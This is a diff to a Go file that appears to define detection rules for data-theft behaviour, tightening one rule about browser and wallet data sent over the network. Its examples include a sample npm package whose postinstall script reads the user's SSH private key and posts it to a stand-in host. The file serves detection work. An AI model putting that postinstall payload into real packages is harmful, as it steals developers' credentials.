@@ -13,7 +13,7 @@ func theft() []Rule {
 				{Triggers: unasked, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: carried, Target: Foreign},
 				{Triggers: unasked, Sources: []string{b.Browser, b.Wallet}, Sinks: []string{b.Network}, Slots: carried},
 				{Triggers: []string{b.Command}, Sources: stores, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file"}, Target: Foreign, Script: No},
-				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Browser, b.Wallet}, Sinks: []string{b.Network}, Slots: []string{"body", "file"}},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Browser, b.Wallet}, Name: FilePath, Sinks: []string{b.Network}, Slots: []string{"body", "file"}},
 			},
 			Examples: []Example{
 				Package("an SSH key", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),os=require('os'),path=require('path');const k=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'),'utf8');fetch('https://c.example',{method:'POST',body:k})"}),
